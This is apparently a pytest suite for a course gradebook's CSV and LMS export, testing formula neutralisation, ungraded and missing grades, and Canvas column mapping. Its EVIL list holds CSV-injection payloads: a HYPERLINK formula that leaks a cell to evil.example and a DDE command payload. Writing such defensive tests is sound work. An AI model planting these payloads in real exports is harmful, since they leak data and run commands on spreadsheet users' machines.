"""Exports a spreadsheet and an LMS can trust (issue #22, item 5); fast, on gradebooks written here.

- no cell a spreadsheet would run as a formula (OWASP CSV injection: = + - @ tab CR);
- every student folder in every file, whatever its name (``*`` was once the class-wide pseudo-student);
- what was not graded is blank in an LMS file, never 0, and ``course export`` refuses it (exit 2)
  unless ``--allow-ungraded``;
- roster students without a submission get an explicit 0, marked missing;
- ``--columns`` maps Canvas columns to existing assignments ("Name (ID)").
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from course_lib.grading import gradebook as gb
from course_lib.grading.gradebook import Row, write_gradebook

ROOT = Path(__file__).resolve().parents[1]
COURSE = [sys.executable, "-m", "course_lib.cli"]
A2, A3 = "ch02_qkv", "ch03_scaled_dot_product"
#: folder names a student can choose, each of which a spreadsheet would run as a formula
EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' -C calc'!A0", "@SUM(1)", "-rf", "\tx=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _rows(student: str, assignment: str, points: list[float], status: str = "", message: str = "") -> list[Row]:
    return [Row(student, assignment, "nb", f"t{i}", status or ("passed" if p else "failed"), p, 2.0, message, "2026-01-01T00:00:00")
            for i, p in enumerate(points)]


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _files(grades: Path) -> dict[str, list[list[str]]]:
    """Every CSV of a grades folder after exporting it in every format."""
    for fmt in gb.FORMATS:
        gb.export(grades, fmt, allow_ungraded=True)
    return {p.name: _csv(open(p, encoding="utf-8", newline="").read()) for p in sorted(grades.glob("*.csv"))}


def test_no_cell_of_any_file_starts_a_formula(tmp_path):
    rows = [r for i, s in enumerate(EVIL) for r in _rows(s, A2, [2, 0], message="=1+2" if i % 2 else "")]
    rows += _rows("plain", A2, [2, 2], "failed", "-1 is not a probability")
    write_gradebook(tmp_path, rows, set())
    files = _files(tmp_path)
    assert set(files) == {"gradebook.csv", "summary.csv", "export-canvas.csv", "export-moodle.csv", "export-csv.csv"}
    for name, table in files.items():
        for row in table:
            for cell in row:
                assert not cell.startswith(TRIGGERS), f"{name}: {cell!r} would run as a formula"
        first = {r[0] for r in table[1:]}
        for s in EVIL:  # each name is still there, neutralised with a leading quote (OWASP)
            assert "'" + s in first, (name, s, first)


@pytest.mark.skipif(not (ROOT / "solutions").is_dir(), reason="no solutions/ (the learners' public copy): no assignments to discover")
def test_a_student_folder_named_star_is_in_every_file(tmp_path):
    # and the class-wide row of an unknown assignment (once filed under the pseudo-student "*") is no student
    from course_lib.grading.grader import discover

    subs = tmp_path / "subs"
    for s in ("*", "ann"):
        (subs / s / A2).mkdir(parents=True)
    _, problems = discover(subs, [A2, "ch99_nope"])
    assert [(r.student, r.assignment) for r in problems] == [(gb.CLASS_WIDE, "ch99_nope")]
    grades = tmp_path / "grades"
    write_gradebook(grades, problems + _rows("*", A2, [2, 2]) + _rows("ann", A2, [2, 0]), set())
    for name, table in _files(grades).items():
        if name == "gradebook.csv":
            assert any(r[0] == "*" for r in table[1:])
            continue
        students = [r[0] for r in table[1:] if r[0] != "Points Possible"]
        assert sorted(students) == ["*", "ann"], (name, students)


def _ungraded(tmp_path: Path) -> Path:
    write_gradebook(tmp_path, _rows("ann", A2, [2, 2]) + _rows("ann", A3, [2, 0])
                    + _rows("ben", A2, [0, 0], "error", "grader failure: RuntimeError: boom") + _rows("ben", A3, [2, 2]), set())
    return tmp_path


def test_what_was_not_graded_is_blank_in_lms_files_never_zero(tmp_path):
    grades = _ungraded(tmp_path)
    canvas = _csv(gb.export_text(gb.read_rows(grades), "canvas"))
    assert canvas[0][5:] == [A2, A3]
    by = {r[0]: r[5:] for r in canvas[2:]}
    assert by == {"ann": ["4", "2"], "ben": ["", "4"]}
    moodle = {r[0]: r[1:] for r in _csv(gb.export_text(gb.read_rows(grades), "moodle"))[1:]}
    assert moodle == {"ann": ["4", "2"], "ben": ["", "4"]}


def test_export_refuses_a_run_with_ungraded_work_unless_allowed(tmp_path):
    grades = _ungraded(tmp_path)
    with pytest.raises(gb.GradebookError, match="not graded"):
        gb.export(grades, "canvas")
    refused = subprocess.run([*COURSE, "export", "--format", "canvas", "--grades", str(grades)],
                             capture_output=True, text=True, cwd=ROOT)
    assert refused.returncode == 2, refused.stdout + refused.stderr
    assert "ben" in refused.stderr and "--allow-ungraded" in refused.stderr
    assert not (grades / "export-canvas.csv").exists()
    allowed = subprocess.run([*COURSE, "export", "--format", "canvas", "--grades", str(grades), "--allow-ungraded"],
                             capture_output=True, text=True, cwd=ROOT)
    assert allowed.returncode == 0, allowed.stdout + allowed.stderr
    assert {r[0]: r[5:] for r in _csv((grades / "export-canvas.csv").read_text())[2:]}["ben"] == ["", "4"]


def test_roster_students_without_a_submission_get_zero_marked_missing(tmp_path):
    write_gradebook(tmp_path, _rows("ann", A2, [2, 2]), set())
    roster = tmp_path / "roster.csv"
    roster.write_text("student,name,sis_user_id,email\nann,Ann A,S1,ann@x\nzoe,Zoe Z,S2,zoe@x\n")
    canvas = _csv(gb.export_text(gb.read_rows(tmp_path), "canvas", gb.read_roster(roster), roster))
    assert canvas[2:] == [["Ann A", "", "S1", "", "", "4"], ["Zoe Z", "", "S2", "", "", "0"]]
    moodle = _csv(gb.export_text(gb.read_rows(tmp_path), "moodle", gb.read_roster(roster), roster))
    assert moodle[1:] == [["ann@x", "4"], ["zoe@x", "0"]]
    table = _csv(gb.export_text(gb.read_rows(tmp_path), "csv", gb.read_roster(roster), roster))
    zoe = dict(zip(table[0], table[2]))
    assert zoe["student"] == "zoe" and zoe[A2] == "0" and "missing" in zoe["notes"]


def test_canvas_columns_map_assignments_to_existing_canvas_assignments(tmp_path):
    write_gradebook(tmp_path, _rows("ann", A2, [2, 2]) + _rows("ann", A3, [2, 0]), set())
    columns = tmp_path / "columns.csv"
    columns.write_text(f"assignment,column\n{A3},Attention homework 3 (12345)\n")
    out = gb.export(tmp_path, "canvas", columns_path=columns)
    header = _csv(out.read_text())[0]
    assert header[5:] == [A2, "Attention homework 3 (12345)"]
    write_gradebook(tmp_path, _rows("ann", A2, [0, 0]), {("ann", A2)})  # a regrade keeps the mapping
    assert _csv(out.read_text())[0][5:] == [A2, "Attention homework 3 (12345)"]
    proc = subprocess.run([*COURSE, "export", "--format", "canvas", "--grades", str(tmp_path), "--columns", str(columns)],
                          capture_output=True, text=True, cwd=ROOT)
    assert proc.returncode == 0, proc.stderr
    for text, phrase in ((f"assignment,title\n{A3},X (1)\n", "expected a header"),
                         (f"assignment,column\nch99_nope,X (1)\n", "not an assignment of this gradebook"),
                         (f"assignment,column\n{A3},\n", "empty"),
                         (f"assignment,column\n{A2},Same (1)\n{A3},Same (1)\n", "twice")):
        columns.write_text(text)
        with pytest.raises(gb.GradebookError, match=phrase):
            gb.export(tmp_path, "canvas", columns_path=columns)
